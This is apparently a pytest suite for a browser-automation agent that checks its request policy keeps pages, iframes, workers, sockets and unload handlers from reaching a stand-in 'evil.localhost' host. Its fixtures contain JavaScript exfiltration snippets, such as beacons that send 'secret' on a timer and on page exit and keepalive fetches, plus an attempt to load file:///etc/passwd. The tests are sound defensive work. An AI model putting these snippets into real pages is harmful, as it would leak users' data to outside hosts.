"""What may be loaded, by the log of a server: what is refused never arrives there, what is allowed does."""

from __future__ import annotations

import asyncio
import gc
from collections.abc import AsyncIterator
from urllib.parse import urlsplit

import pytest

from cdp_agent.browser import Browser
from cdp_agent.cdp import page as cdp_page
from cdp_agent.cdp import target
from cdp_agent.errors import BlockedByPolicy
from cdp_agent.page.page import Page, tab_of
from cdp_agent.page.policy.limits import limit, limited
from cdp_agent.page.policy.rules import rules_of
from tests.conftest import new_tab
from tests.detached import DetachedChrome
from tests.outlets import BESIDE_ALL_SESSIONS, put_outlets, put_unseen
from tests.web import Web, running

ALLOWED = ["good.localhost", "other.localhost"]
STILL_S = 3


@pytest.fixture
async def web() -> AsyncIterator[Web]:
    async with running() as web:
        yield web


@pytest.fixture(scope="module")
async def guarded() -> AsyncIterator[Browser]:
    """A Chrome of ours that may go to two hosts."""
    async with Browser.launch(allow=ALLOWED) as browser:
        yield browser


@pytest.fixture(scope="module")
async def guarded_page(guarded: Browser) -> Page:
    """The tab there in which tests take turns."""
    return await guarded.new_page()


async def ref(page: Page, name: str) -> str:
    return next(each.ref for each in (await page.snapshot()).refs.values() if each.name == name)


async def all_tried(web: Web, page: Page) -> None:
    """Waits until nothing more is asked for. Workers and delayed requests begin last."""
    before = -1
    while len(web.asked) > before:
        before = len(web.asked)
        await still(page, STILL_S)


async def still(page: Page, for_s: float) -> None:
    await page.evaluate(f"new Promise(done => setTimeout(done, {for_s * 1000}))", timeout_s=for_s + 5)


async def close(page: Page) -> None:
    """With the tabs that it opened."""
    for each in [page, *page.popups]:
        await each.close()


async def lead(page: Page, url: str) -> None:
    """Goes there without waiting until the page is at rest."""
    await (await tab_of(page).frames()).root.session.send(cdp_page.Navigate(url=url))


async def test_in_a_chrome_of_ours_nothing_gets_out(guarded: Browser, web: Web) -> None:
    page = await guarded.new_page()
    receipt = await page.goto(put_outlets(web))
    await all_tried(web, page)
    await page.goto(web.origin("good") + "/next")
    await close(page)

    assert web.paths("evil") == []
    assert {"/", "/worker.js?who=dedicated", "/worker.js?who=shared", "/service.js", "/next"} <= set(web.paths("good"))
    assert web.paths("other") == ["/inner"]
    assert f"requests to {web.origin('evil')}" in receipt.text
    assert f"requests to ws://evil.localhost:{web.port}" in receipt.text


async def test_what_a_chrome_of_ours_is_denied_is_refused_to_all_contexts_and_to_what_no_session_tells_of(
    web: Web,
) -> None:
    evil = web.origin("evil")
    async with Browser.launch(deny=["evil.localhost"]) as browser:
        page = await (await browser.new_context(allow=["evil.localhost", "good.localhost"])).new_page()
        with pytest.raises(BlockedByPolicy):
            await page.goto(evil)
        receipt = await page.goto(put_unseen(web))
        await all_tried(web, page)
        closed = browser.session.connection.closed

    assert web.paths("evil") == []
    assert f"requests to {evil}" in receipt.text
    assert {"/", "/worker.js?who=shared", "/service.js"} <= set(web.paths("good"))
    assert closed.result() != "closed by us"  # its rules held until it had ended


async def test_in_the_chrome_of_a_user_nothing_gets_out_of_our_tabs(web: Web, detached: DetachedChrome) -> None:
    """Nor as they are closed."""
    farewell = f"""<script>
    for (const last of ["pagehide", "unload", "visibilitychange"]) addEventListener(last, () => {{
      navigator.sendBeacon("{web.origin("evil")}/last-" + last);
      fetch("{web.origin("evil")}/last-" + last, {{keepalive: true, mode: "no-cors"}}); }});
    if (self.fetchLater) fetchLater("{web.origin("evil")}/last-later");
    </script>"""
    async with Browser.connect(detached.endpoint, allow=ALLOWED) as browser:
        page = await browser.new_page()
        receipt = await page.goto(put_outlets(web))
        await all_tried(web, page)
        await page.goto(web.put("good", "/farewell", farewell))
        await page.close()
        await (await browser.new_page()).goto(web.origin("other"))

        got_out = web.paths("evil")

    assert [each for each in got_out if each not in [*BESIDE_ALL_SESSIONS, "/sandbox"]] == []
    assert f"requests to {web.origin('evil')}" in receipt.text


async def test_the_tabs_and_workers_of_a_user_load_what_they_like_and_nothing_is_done_there(
    web: Web, detached: DetachedChrome
) -> None:
    async with Browser.connect(detached.endpoint) as theirs:
        tab = await theirs.new_page(put_asking(web, "plain"))
        before = await tab.evaluate("ask()")
        async with Browser.connect(detached.endpoint, deny=["evil.localhost"]) as ours:
            beside = [await (await ours.new_page(put_asking(web, "good"))).evaluate("ask()")]
            beside += [await tab.evaluate("ask()")]
            await tab.goto(put_asking(web, "else"))
            beside += [await tab.evaluate("ask()")]
            await tab.goto(web.put("evil", "/theirs", "<button>Send</button>"))
            (page,) = (each for each in ours.pages if each.target_id == tab.target_id)

            assert "Send" in (await page.snapshot()).text
            for call in (page.click("E1"), page.goto(web.origin("good")), page.press("Enter"), page.scroll()):
                with pytest.raises(BlockedByPolicy, match="Open its address in a new tab"):
                    await call
            assert "Send" in await page.markdown()

    assert before == "sent,sent"
    assert beside == ["refused,refused", "sent,sent", "sent,sent"]
    assert "/theirs" in web.paths("evil")


async def test_a_run_keeps_its_tabs_to_its_rules(browser: Browser, web: Web) -> None:
    """What it refused, with what no rules refuse, is all that the page tries."""
    outlets = put_outlets(web)
    async with limited(rules_of(deny=["evil.localhost"])):
        page = await browser.new_page()
        await lead(page, outlets)
        await all_tried(web, page)
    got_out = web.paths("evil")
    refused = [urlsplit(each.url) for each in tab_of(page).request_policy.take()]
    tried = {*got_out, *(each._replace(scheme="", netloc="").geturl() for each in refused)}
    for each in page.popups:
        await each.close()
    receipt = await page.goto(web.origin("evil") + "/afterwards")
    await page.close()

    assert [each for each in got_out if each not in BESIDE_ALL_SESSIONS] == []
    assert {each.hostname for each in refused} <= {"evil.localhost", "evil.localhost."}
    assert {"/fetch", "/socket", "/shared-socket", "/service-fetch", "/popup", "/redirected-to-iframe"} <= tried
    assert {"/blob-fetch", "/data-socket", "/shared-dotted-socket", "/paint.js"} <= tried
    assert len(tried) > 80
    assert receipt.navigated_to == web.origin("evil") + "/afterwards"


async def test_a_tab_with_a_page_in_it_is_limited_from_then_on(page: Page, web: Web) -> None:
    await page.goto(web.put("good", "/", "<iframe src='/inner'></iframe>"))
    asked = f"fetch('{web.origin('evil')}/x', {{mode: 'no-cors'}}).then(() => 'sent', () => 'refused')"

    async with limited(rules_of(deny=["evil.localhost"])):
        await limit(tab_of(page).request_policy)
        during = [await page.evaluate(asked), await page.evaluate(f"frames[0].{asked}")]
    afterwards = await page.evaluate(asked)
    await page.goto(web.origin("good"))
    anew = await page.evaluate(asked)

    assert (during, afterwards, anew) == (["refused", "refused"], "refused", "sent")


_KEEPS = """<title>Keeps</title><script>
const send = (how) => navigator.sendBeacon("EVIL/" + how, "secret");
let times = 0;
setInterval(() => send("timer-" + times++), 50);
for (const last of ["pagehide", "unload", "visibilitychange", "beforeunload"]) addEventListener(last, () => {
  send(last); fetch("EVIL/" + last, {keepalive: true, mode: "no-cors"}); });
const tell = (worker) => worker.postMessage("EVIL/");
if (top === window) navigator.serviceWorker.register("/keeps.js").then((kept) => tell(kept.installing || kept.active));
</script><iframe src="OTHER/keeps"></iframe>"""
_KEEPING_WORKER = """
let times = 0;
onmessage = (told) => setInterval(() => fetch(told.data + "service-" + times++, {mode: "no-cors"}).catch(() => 0), 50);
"""


def put_keeps(web: Web) -> str:
    """A page, one of another site in it, and a service worker, that go on telling what they know, and at their end."""
    text = _KEEPS.replace("EVIL", web.origin("evil"))
    web.put("good", "/keeps.js", _KEEPING_WORKER, "text/javascript")
    web.put("other", "/keeps", text.replace("<iframe", "<i"))
    return web.put("good", "/keeps", text.replace("OTHER", web.origin("other")))


async def _service_workers(browser: Browser, web: Web) -> list[str]:
    found = await browser.session.send(target.GetTargets(filter=[target.FilterEntry(type="service_worker")]))
    return [each.url for each in found.target_infos if f":{web.port}/" in each.url]


async def test_what_a_page_was_told_in_a_run_does_not_leave_after_it(browser: Browser, web: Web) -> None:
    """Neither before another run goes on in its tab, nor then, nor as that is closed."""
    async with limited(rules_of(allow=ALLOWED)):
        page = await browser.new_page()
        await page.goto(put_keeps(web))
        await page.evaluate("navigator.serviceWorker.ready.then(() => 0)")
    await still(page, 0.3)
    async with limited(rules_of(allow=["free.localhost"])):
        await limit(tab_of(page).request_policy)
        await page.goto(web.origin("free"))
    await page.evaluate(f"fetch('{web.origin('free')}/fetched').then(() => 1)")
    await still(page, 0.3)
    entries = await page.evaluate("history.length")
    await page.close()
    async with asyncio.timeout(10):  # it would go on telling
        while await _service_workers(browser, web):
            pass

    assert web.paths("evil") == []
    assert {"/", "/fetched"} <= set(web.paths("free"))
    assert entries <= 2


ASKING_WORKER = """const ask = (who) => fetch("EVIL/" + who, {mode: "no-cors"}).then(() => "sent", () => "refused");
onmessage = (told) => ask("service").then((how) => told.source.postMessage(how));
onconnect = ({ports: [port]}) => { port.onmessage = () => ask("shared").then((how) => port.postMessage(how)); };"""
ASKS_WORKERS = """<script>
const shared = new SharedWorker("/asks.js").port;
const answer = (of) => new Promise((done) => { of.onmessage = (told) => done(told.data); });
const service = () => navigator.serviceWorker.ready.then((kept) => kept.active.postMessage(""));
const ask = () => {
  const both = Promise.all([answer(shared), answer(navigator.serviceWorker)]);
  shared.postMessage(""); service(); return both.then((said) => said.join());
};
navigator.serviceWorker.register("/asks.js");
</script>"""


def put_asking(web: Web, name: str) -> str:
    """A page whose `ask()` has its shared worker and its service worker send something."""
    web.put(name, "/asks.js", ASKING_WORKER.replace("EVIL", web.origin("evil")), "text/javascript")
    return web.put(name, "/asking", ASKS_WORKERS)


async def test_the_rules_of_a_tab_bind_the_workers_of_the_sites_that_it_came_to_alone_and_end_with_it(
    browser: Browser, web: Web
) -> None:
    asks = (
        f"fetch('{web.origin('evil')}', {{mode: 'no-cors'}}).then(() => postMessage('sent'), () => postMessage('no'))"
    )
    outer = "new Worker('/inner.js').onmessage = (told) => postMessage(told.data)"
    web.put("plain", "/inner.js", asks, "text/javascript")
    web.put("plain", "/outer.js", outer, "text/javascript")
    free = await browser.new_page(put_asking(web, "plain"))
    before = await free.evaluate("ask()")
    gc.disable()  # whether the tab is forgotten is not what decides
    try:
        async with limited(rules_of(deny=["evil.localhost"])):
            limit_to = await browser.new_page(put_asking(web, "good"))
            beside = [await limit_to.evaluate("ask()"), await free.evaluate("ask()")]
            of_worker = await free.evaluate(
                "new Promise(done => new Worker('/outer.js').onmessage = (told) => done(told.data))"
            )
            await limit_to.goto(put_asking(web, "plain"))
            async with asyncio.timeout(10):  # of a shared worker that runs, nothing waits for the rules
                while (since := await free.evaluate("ask()")) != "refused,refused":
                    pass
            await limit_to.evaluate("window.open('/popup') && 1")
            await new_tab(limit_to)
        await close(limit_to)
        await free.goto(web.origin("else"))
        await free.goto(put_asking(web, "plain"))
        afterwards = await free.evaluate("ask()")
    finally:
        gc.enable()

    assert before == "sent,sent"
    assert beside == ["refused,refused", "sent,sent"]
    assert of_worker == "sent"  # it belongs to the tab of the worker that started it
    assert since == "refused,refused"
    assert afterwards == "sent,sent"


async def test_a_worker_whose_script_is_still_to_come_as_rules_end_begins(
    browser: Browser, page: Page, web: Web
) -> None:
    """Nobody else would let it run: it waited for us."""
    web.put("plain", "/begins.js", "onconnect = ({ports: [port]}) => port.postMessage('begun')", "text/javascript")
    script = web.hold("plain", "/begins.js")
    await page.goto(web.origin("plain"))
    async with limited(rules_of(deny=["evil.localhost"])):
        limit_to = await browser.new_page(web.origin("good"))
        begins = "new Promise((done) => { new SharedWorker('/begins.js').port.onmessage = (told) => done(told.data); })"
        begun = asyncio.ensure_future(page.evaluate(begins))
        while ("plain", "/begins.js") not in web.asked:
            await limit_to.evaluate("1")
    await limit_to.close()
    await page.snapshot()  # so that Chrome knows by then that the rules have ended
    script.set()

    assert await begun == "begun"


async def test_the_last_words_of_a_page_and_its_iframe_keep_to_the_rules(browser: Browser, web: Web) -> None:
    """They may come when the tab is free again: here they are made to, by an iframe that is busy as it is left."""
    last = f"""<script>addEventListener("pagehide", () => {{
      for (const until = Date.now() + BUSY; Date.now() < until;);
      navigator.sendBeacon("{web.origin("evil")}/last");
      fetch("{web.origin("evil")}/last", {{keepalive: true, mode: "no-cors"}}); }});</script>"""
    web.put("other", "/last", last.replace("BUSY", "120"))
    frame = f"<iframe src='{web.origin('other')}/last'></iframe>"
    url = web.put("good", "/", frame + last.replace("BUSY", "0"))
    page = await browser.new_page()
    for leave in (lambda: page.goto(web.origin("free")), page.close):
        async with limited(rules_of(allow=ALLOWED)):
            await limit(tab_of(page).request_policy)
            await page.goto(url)
            await page.snapshot()
        await leave()
    await still(browser.pages[0], 0.75)

    assert web.paths("evil") == []


async def test_what_a_page_sent_keeps_to_its_rules_when_it_was_left(browser: Browser, web: Web) -> None:
    """Here what it sent, before and as it is left, is led elsewhere only when the tab is free again."""
    answers = [web.hold("good", path) for path in ("/before", "/pagehide")]
    for path in ("/before", "/pagehide"):
        web.redirect("good", path, web.origin("evil") + path)
    send = "const send = (path) => fetch(path, {keepalive: true, mode: 'no-cors'})"
    both = f"{send}; send('/before'); addEventListener('pagehide', () => send('/pagehide'))"
    async with limited(rules_of(allow=ALLOWED)):
        page = await browser.new_page()
        await page.goto(web.put("good", "/", f"<script>{both}</script>"))
    await page.goto(web.origin("free"))
    for each in answers:
        each.set()
    await still(page, 0.5)

    assert {"/before", "/pagehide"} <= set(web.paths("good"))
    assert web.paths("evil") == []


async def test_a_tab_stays_limited_while_one_that_it_opened_is_there(browser: Browser, web: Web) -> None:
    async with limited(rules_of(allow=ALLOWED)):
        page = await browser.new_page()
        await page.goto(web.put("good", "/", "<a href='/popup' target=_blank rel=opener>Open</a>"))
        await page.click(await ref(page, "Open"))

    with pytest.raises(BlockedByPolicy):
        await page.goto(web.origin("evil"))
    await page.popups[0].close()
    receipt = await page.goto(web.origin("evil"))

    assert receipt.navigated_to == web.origin("evil") + "/"


async def test_the_next_run_by_the_same_rules_goes_on_in_the_tab(page: Page, web: Web) -> None:
    for _ in range(3):
        async with limited(rules_of(allow=ALLOWED)):
            await limit(tab_of(page).request_policy)
            await page.goto(web.origin("good"))
    opened = await page.evaluate(
        f"new Promise(done => {{ const socket = new WebSocket('ws://good.localhost:{web.port}/socket');"
        " socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })"
    )

    assert (opened, len(tab_of(page).request_policy.tab_rules)) == ("open", 1)


async def test_an_address_that_is_not_allowed_is_refused_before_anything_is_sent(guarded_page: Page, web: Web) -> None:
    urls = [
        web.origin("evil"),
        f"http://good.localhost@evil.localhost:{web.port}/",
        "file:///etc/passwd",
        "chrome://gpu",
    ]

    told = []
    for url in urls:
        with pytest.raises(BlockedByPolicy) as refused:
            await guarded_page.goto(url)
        told.append(str(refused.value))

    why = "is not among the allowed origins (good.localhost, other.localhost), so nothing was sent there."
    names = [web.origin("evil"), web.origin("evil"), "file:///etc/passwd", "chrome://gpu"]
    assert told == [f"{name} {why} Reach the goal without it." for name in names]
    assert web.asked == []


LEADS_ELSEWHERE = {
    "link": "<a href='EVIL/goal'>link</a>",
    "redirect": "<a href='/redirect'>redirect</a>",
    "download": "<a href='EVIL/goal' download>download</a>",
    "new tab": "<a href='EVIL/goal' target=_blank>new tab</a>",
    "popup": "<button onclick='window.open(`EVIL/goal`)'>popup</button>",
    "form": "<form action='EVIL/goal' method=post><button>form</button></form>",
    "redirected popup": "<button onclick='window.open(`/redirect`)'>redirected popup</button>",
}


async def test_an_action_that_would_lead_elsewhere_fails_and_says_so(
    guarded_page: Page, web: Web, subtests: pytest.Subtests
) -> None:
    page = guarded_page
    web.redirect("good", "/redirect", f"{web.origin('other')}/again")
    web.redirect("other", "/again", f"{web.origin('evil')}/goal")
    await page.goto(web.put("good", "/", "".join(LEADS_ELSEWHERE.values()).replace("EVIL", web.origin("evil"))))
    await page.evaluate("window.kept = true")
    refs = {each.name: each.ref for each in (await page.snapshot()).refs.values()}

    for name in LEADS_ELSEWHERE:
        with subtests.test(name):
            with pytest.raises(BlockedByPolicy) as refused:
                await page.click(refs[name])

            assert f"leads elsewhere: {web.origin('evil')} is not among the allowed origins" in str(refused.value)
            assert await page.evaluate("window.kept") is True
            assert (page.url, web.paths("evil")) == (web.origin("good") + "/", [])


SOCKETS: list[tuple[str, list[str], list[str]]] = [
    ("allow", ["good.localhost"], ["good", "a.good"]),
    (
        "allow",
        ["*.good.localhost", "http://notgood.localhost:PORT", "https://good.bad.localhost:PORT"],
        ["a.good", "notgood"],
    ),
    ("deny", ["good.localhost", "notgood.localhost:1"], ["notgood", "good.bad"]),
]


async def test_sockets_go_to_the_hosts_of_the_lists(browser: Browser, web: Web, subtests: pytest.Subtests) -> None:
    """What pages ask for first is held for us to look at; of sockets Chrome is told beforehand."""
    hosts = ["good", "a.good", "notgood", "good.bad"]
    tried = "".join(
        f"new Promise(done => {{ const socket = new WebSocket('{web.origin(host).replace('http', 'ws')}/socket');"
        f" socket.onopen = () => done(['{host}']); socket.onerror = () => done([]); }}),"
        for host in hosts
    )
    here = web.put("here", "/", "<p>Here")
    page = await browser.new_page()
    for kind, origins, opened in SOCKETS:
        with subtests.test(f"{kind} {origins}"):
            web.asked.clear()
            own = [each.replace("PORT", str(web.port)) for each in origins]
            rules = rules_of(allow=["here.localhost", *own]) if kind == "allow" else rules_of(deny=own)

            async with limited(rules):
                await limit(tab_of(page).request_policy)
                await page.goto(here)
                assert await page.evaluate(f"Promise.all([{tried}]).then(each => each.flat())") == opened

            assert {host for host, path in web.asked if path == "/socket"} == set(opened)


async def test_redirects_sockets_and_workers_that_are_allowed_work(guarded_page: Page, web: Web) -> None:
    page = guarded_page
    web.put("good", "/worker.js", "fetch('/from-worker').then(() => postMessage('fetched'))", "text/javascript")

    receipt = await page.goto(web.redirect("other", "/from", f"{web.origin('good')}/to"))
    opened = await page.evaluate(
        f"new Promise(done => {{ const socket = new WebSocket('ws://good.localhost:{web.port}/socket');"
        " socket.onopen = () => done('open'); socket.onerror = () => done('refused'); })"
    )
    fetched = await page.evaluate("new Promise(done => new Worker('/worker.js').onmessage = (told) => done(told.data))")

    of_this_test = [each for each in receipt.blocked if f":{web.port}/" in each.url]  # workers of others may still send
    assert (receipt.navigated_to, of_this_test) == (f"{web.origin('good')}/to", [])
    assert (opened, fetched) == ("open", "fetched")


async def test_kinds_and_hosts_are_left_out_without_a_word(browser: Browser, web: Web) -> None:
    content = (
        "<h1>Text</h1><img src=/a.gif><link rel=stylesheet href=/a.css><script src=/a.js></script>"
        "<link rel=prefetch href=/prefetched><link rel=manifest href=/site.webmanifest crossorigin=use-credentials>"
        "<video src=/a.mp4 autoplay></video>"
        f"<script src={web.origin('ads')}/x.js></script><script src={web.origin('sub.ads')}/x.js></script>"
    )
    web.put("good", "/", content)
    blocked = ["image", "stylesheet", "media", "manifest", "prefetch"]
    async with await browser.new_context(isolated=False, block=blocked, block_hosts=["ads.localhost"]) as context:
        page = await context.new_page()
        receipt = await page.goto(web.origin("good"))

    assert receipt.text.splitlines()[:2] == [
        f"went to {web.origin('good')}",
        f"navigated to {web.origin('good')}/",
    ]
    assert "blocked" not in receipt.text
    assert "failed" not in receipt.text
    assert [path for path in web.paths("good") if path != "/favicon.ico"] == ["/", "/a.js"]
    assert (web.paths("ads"), web.paths("sub.ads")) == ([], [])


async def test_a_page_cannot_tell_rules_from_an_ad_blocker(guarded_page: Page, page: Page, web: Web) -> None:
    await guarded_page.goto(web.put("good", "/", "<h1>Text</h1>"))

    seen = await guarded_page.evaluate(
        f"fetch('{web.origin('evil')}/x').catch((error) => [error.name, error.message, Reflect.ownKeys(window).length])"
    )
    await page.goto(web.origin("good"))
    names = await page.evaluate("Reflect.ownKeys(window).length")

    assert seen == ["TypeError", "Failed to fetch", names]


async def test_a_tab_crashes_and_is_closed_while_its_requests_are_held(
    guarded: Browser, guarded_page: Page, web: Web
) -> None:
    flood = f"for (let i = 0; i < 20; i++) fetch('{web.origin('evil')}/' + i).catch(() => 0)"
    page = await guarded.new_page()
    await page.goto(web.put("good", "/", "<h1>Text</h1>"))
    root = (await tab_of(page).frames()).root.session

    await page.evaluate(f"{{ {flood} }}")
    root.tell(cdp_page.Crash())
    again = await page.goto(web.origin("good") + "/next")
    await page.evaluate(f"{{ {flood} }}")
    await asyncio.wait_for(page.close(), 5)
    other = await guarded_page.goto(web.origin("good"))

    assert (again.navigated_to, other.navigated_to) == (web.origin("good") + "/next", web.origin("good") + "/")
    assert web.paths("evil") == []
